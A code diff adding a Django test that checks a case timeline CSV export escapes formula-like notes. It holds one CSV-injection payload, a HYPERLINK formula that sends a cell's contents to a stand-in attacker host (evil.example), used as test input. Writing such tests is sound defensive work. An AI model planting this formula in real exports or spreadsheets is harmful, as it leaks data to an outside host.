@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 
 import pytest
 from django.urls import reverse
@@ -206,3 +208,19 @@ def test_postcode_search_ignores_spaces_and_case(client, reference, officer):
     for typed in ("WD6 1AA", "wd61aa", "WD6"):
         found = client.get(reverse("cases:list"), {"q": typed}).context["page"]
         assert [c.pk for c in found] == [case.pk], typed
+
+
+def test_timeline_export_writes_a_formula_like_note_as_inert_text(client, area, officer):
+    from cases.services import case_add_note
+
+    case = receive_case(area=area, by=officer)
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    case_add_note(case=case, by=officer, text=payload)
+    case_add_note(case=case, by=officer, text="-5 days late, chased by phone")
+    client.force_login(officer)
+    response = client.get(reverse("cases:timeline_export", args=[case.reference]))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    reasons = [row[6] for row in rows[1:]]
+    assert "'" + payload in reasons
+    assert payload not in reasons
+    assert "'-5 days late, chased by phone" in reasons
